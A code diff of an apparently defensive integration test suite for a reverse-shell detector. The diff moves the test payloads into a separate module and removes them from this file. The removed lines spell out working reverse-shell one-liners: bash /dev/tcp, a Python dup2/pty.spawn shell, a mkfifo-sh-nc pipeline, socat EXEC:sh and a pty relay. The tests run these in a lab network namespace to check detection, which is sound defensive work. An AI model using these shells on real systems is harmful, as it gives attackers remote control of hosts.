@@ -14,28 +14,25 @@ service manager, tmux, a plain pipeline.
 from __future__ import annotations
 
 import asyncio
-import contextlib
 import shutil
-import socket
-import subprocess
 import sys
 import time
 from pathlib import Path
-from typing import Iterator
 
 import pytest
 
-from agent.breachlab import cgroup_path, throwaway_cgroup
+from agent.breachlab import (BASH_TCP, FIFO, FIFO_RELAYED, PTY_RELAY, PY_PTY, SOCAT,
+                             ShellListener, cgroup_path, python_wiring, reverse_shell,
+                             run_wiring, throwaway_cgroup)
 from agent.config import REMOTE_ACCESS, SERVICE_MANAGERS, Breach, Config
 from agent.detect.rules import Detector, load_rules
-from agent.lab import Lab, netns
+from agent.lab import Lab
 from agent.sources import stdio
-from tests.integration.test_proc_probe import probe, wait_for  # noqa: F401 (fixture)
 from tests.conftest import skip_unsupported
+from tests.integration.test_proc_probe import probe, wait_for  # noqa: F401 (fixture)
 
 pytestmark = pytest.mark.privileged
 PY = sys.executable
-WIRING_TIMEOUT_S = 20      # every wiring runs under `timeout`; its cgroup is killed after
 
 
 @pytest.fixture(scope="module")
@@ -71,48 +68,6 @@ def lab():
         yield lab
 
 
-class Listener:
-    """The attacker's end, in the attacker namespace: accepts one connection, sends a
-    command and reads until its output comes back (bounded in time)."""
-
-    def __init__(self, lab: Lab):
-        with netns(lab.attacker):
-            self.srv = socket.create_server((lab.addr("attacker"), 0))
-        self.srv.settimeout(WIRING_TIMEOUT_S)
-        self.addr, self.port = lab.addr("attacker"), self.srv.getsockname()[1]
-        self.conn: socket.socket | None = None
-
-    def drive(self, timeout_s: float = 10.0) -> bytes:
-        """Accept, send `echo PWNED-$((6*7))`, return what came back once "PWNED-42" did
-        (only a shell that ran the command prints 42) or the time ran out."""
-        self.conn, _ = self.srv.accept()
-        self.conn.settimeout(0.2)
-        self.conn.sendall(b"echo PWNED-$((6*7))\n")
-        got, deadline = b"", time.monotonic() + timeout_s
-        while b"PWNED-42" not in got and time.monotonic() < deadline:
-            try:
-                chunk = self.conn.recv(4096)
-            except TimeoutError:
-                continue
-            if not chunk:
-                break
-            got += chunk
-        return got
-
-    def close(self) -> None:
-        if self.conn is not None:
-            self.conn.close()
-        self.srv.close()
-
-
-def run_in(lab: Lab, cgroup: Path, script: str, *args: str) -> subprocess.Popen:
-    """`sh -c script` in the victim namespace, in `cgroup` from its first instruction."""
-    pre = f'echo $$ > "{cgroup}/cgroup.procs" && exec ip netns exec "$0" timeout {WIRING_TIMEOUT_S} '
-    return subprocess.Popen(["sh", "-c", pre + 'sh -c "$@"', lab.victim, script, *args],
-                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
-                            stderr=subprocess.DEVNULL)
-
-
 def events_of(probe, cg: str, kind: str, pred=lambda e: True, count: int = 1,
               timeout_s: float = 10.0) -> list:
     return wait_for(probe, lambda e: e.kind == kind and e.fields.get("cgroup") == cg and pred(e),
@@ -129,55 +84,8 @@ def shell_network(probe, cg: str) -> list:
     return [d for d in map(stdio.correlate, shells) if d is not None]
 
 
-@contextlib.contextmanager
-def wiring(probe, lab: Lab, script: str, *args: str) -> Iterator[tuple[str, Listener]]:
-    """Run a reverse-shell wiring until the listener saw its command run; yields
-    (cgroup path, listener) with everything still alive, then kills it all."""
-    listener = Listener(lab)
-    with throwaway_cgroup("swa-revsh") as d:
-        proc = run_in(lab, d, script, listener.addr, str(listener.port), *args)
-        try:
-            got = listener.drive()
-            assert b"PWNED-42" in got, got
-            yield cgroup_path(d), listener
-        finally:
-            listener.close()
-            proc.kill()
-            proc.wait(timeout=10)
-
-
-BASH_TCP = 'exec bash -c "bash -i >& /dev/tcp/$0/$1 0>&1"'
-PY_PTY = ("import os, pty, socket, sys\n"
-          "s = socket.create_connection((sys.argv[1], int(sys.argv[2])))\n"
-          "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\n"
-          "pty.spawn('/bin/sh')\n")
-FIFO = 'rm -f "$2"; mkfifo "$2"; cat "$2" | sh -i 2>&1 | nc "$0" "$1" > "$2"'
-SOCAT = 'exec socat TCP:"$0":"$1" EXEC:sh'
-# A pty relay without dup2, shaped like sshd: the pty master and the socket in one process.
-RELAY = """
-import os, pty, select, socket, sys, time
-s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
-pid, master = pty.fork()
-if pid == 0:
-    os.execv("/bin/sh", ["sh"])
-deadline = time.monotonic() + 15
-while time.monotonic() < deadline:
-    r, _, _ = select.select([s, master], [], [], 0.5)
-    if s in r:
-        data = s.recv(4096)
-        if not data:
-            break
-        os.write(master, data)
-    if master in r:
-        try:
-            s.sendall(os.read(master, 4096))
-        except OSError:
-            break
-"""
-
-
 def test_bash_dev_tcp(probe, detector, lab):
-    with wiring(probe, lab, BASH_TCP) as (cg, _):
+    with reverse_shell(lab, BASH_TCP) as (cg, _):
         execs = events_of(probe, cg, "proc.exec", lambda e: e.fields["argv"] == ["bash", "-i"])
         dups = events_of(probe, cg, "proc.stdio_dup", count=2, timeout_s=1.0)
     assert fired(detector, execs) == {"breach.reverse_shell@1"}
@@ -190,7 +98,7 @@ def test_bash_dev_tcp(probe, detector, lab):
 
 
 def test_python_dup2_and_pty_spawn(probe, detector, lab):
-    with wiring(probe, lab, f'exec {PY} -c "$2" "$0" "$1"', PY_PTY) as (cg, listener):
+    with reverse_shell(lab, *python_wiring(PY_PTY)) as (cg, listener):
         [net] = shell_network(probe, cg)
         dups = events_of(probe, cg, "proc.stdio_dup", count=2, timeout_s=1.0)
     # one event when the socket arrives on stdio; dup2 onto 1 and 2 then copies stdio
@@ -206,13 +114,10 @@ def test_python_dup2_and_pty_spawn(probe, detector, lab):
 
 
 # the classic, and the same with relays between (cat | cat): followed up to MAX_HOPS
-FIFO_RELAYED = 'rm -f "$2"; mkfifo "$2"; cat "$2" | cat | sh -i 2>&1 | cat | nc "$0" "$1" > "$2"'
-
-
 @pytest.mark.parametrize("script,hops", [(FIFO, (1, 0)), (FIFO_RELAYED, (2, 1))],
                          ids=["mkfifo", "mkfifo-relayed"])
 def test_mkfifo_sh_nc(probe, detector, lab, tmp_path, script, hops):
-    with wiring(probe, lab, script, str(tmp_path / "f")) as (cg, listener):
+    with reverse_shell(lab, script, str(tmp_path / "f")) as (cg, listener):
         nets = shell_network(probe, cg)
     [net] = [n for n in nets if n.fields["comm"] == "sh"]
     f = net.fields
@@ -231,7 +136,7 @@ def test_probe_run_correlates_off_the_loop(probe, lab, tmp_path):
     got: list = []
 
     def drive() -> str:
-        with wiring(probe, lab, FIFO, str(tmp_path / "f")) as (cg, _):
+        with reverse_shell(lab, FIFO, str(tmp_path / "f")) as (cg, _):
             deadline = time.monotonic() + 10
             while not [e for e in got if e.kind == "proc.stdio_network"
                        and e.fields["cgroup"] == cg]:
@@ -253,7 +158,7 @@ def test_probe_run_correlates_off_the_loop(probe, lab, tmp_path):
 
 
 def test_socat_exec(probe, detector, lab):
-    with wiring(probe, lab, SOCAT) as (cg, _):
+    with reverse_shell(lab, SOCAT) as (cg, _):
         nets = shell_network(probe, cg)
     [net] = nets
     f = net.fields
@@ -262,7 +167,7 @@ def test_socat_exec(probe, detector, lab):
 
 
 def test_pty_relay_without_dup(probe, detector, lab):
-    with wiring(probe, lab, f'exec {PY} -c "$2" "$0" "$1"', RELAY) as (cg, _):
+    with reverse_shell(lab, *python_wiring(PTY_RELAY)) as (cg, _):
         nets = shell_network(probe, cg)
         dups = events_of(probe, cg, "proc.stdio_dup", timeout_s=0.5)
     assert dups == [] and fired(detector, nets) == {"breach.stdio_network@1"}
@@ -272,7 +177,7 @@ def test_pty_relay_without_dup(probe, detector, lab):
 
 def test_sshd_shaped_relay_by_a_remote_access_executable(probe, detector, lab, fakes):
     sshd = fakes["fake-sshd"]
-    with wiring(probe, lab, f'PYTHONHOME=/usr exec {sshd} -c "$2" "$0" "$1"', RELAY) as (cg, _):
+    with reverse_shell(lab, *python_wiring(PTY_RELAY, sshd)) as (cg, _):
         [net] = shell_network(probe, cg)
     f = net.fields
     assert (f["input_network"], f["output_network"], f["input_peer_exe"]) == (True, True, str(sshd))
@@ -291,7 +196,7 @@ os.execv("/bin/sh", ["sh", "-c", "read line; exec 2>&1; echo PWNED-42 >&2; sleep
 @pytest.mark.parametrize("manager", ["fake-inetd", None])
 def test_socket_handed_to_a_service_by_a_service_manager(probe, detector, lab, fakes, manager):
     exe = fakes[manager] if manager else PY
-    with wiring(probe, lab, f'PYTHONHOME=/usr exec {exe} -c "$2" "$0" "$1"', SERVE) as (cg, _):
+    with reverse_shell(lab, *python_wiring(SERVE, exe)) as (cg, _):
         dups = events_of(probe, cg, "proc.stdio_dup", count=2, timeout_s=1.0)
     # the service's own `2>&1` moves a socket already on stdio: no event
     assert [d.fields["newfd"] for d in dups] == [0]
@@ -315,10 +220,10 @@ time.sleep(5)
 def test_network_into_sh_output_elsewhere(probe, detector, lab, tmp_path):
     """`curl ... | sh`: commands from the network, output to a plain process and a file."""
     out = tmp_path / "out"
-    listener = Listener(lab)
+    listener = ShellListener(lab)
     with throwaway_cgroup("swa-revsh") as d:
         script = f'{PY} -c "$2" "$0" "$1" | sh | cat > "$3"'
-        proc = run_in(lab, d, script, listener.addr, str(listener.port), CLIENT, str(out))
+        proc = run_wiring(lab, d, script, listener.addr, str(listener.port), CLIENT, str(out))
         try:
             listener.conn, _ = listener.srv.accept()
             listener.conn.sendall(b"echo PWNED-$((6*7))\n")
@@ -343,7 +248,7 @@ def test_tmux_and_plain_pipelines_are_quiet(probe, detector, lab, tmp_path):
         script = (f'tmux -L {sock} new-session -d "sh -i"; '
                   'printf "echo hi\\n" | sh | cat > /dev/null; sleep 3; '
                   f'tmux -L {sock} kill-server')
-        proc = run_in(lab, d, script)
+        proc = run_wiring(lab, d, script)
         try:
             for stdin in ("pty", "pipe"):
                 events_of(probe, cgroup_path(d), "proc.stdio",
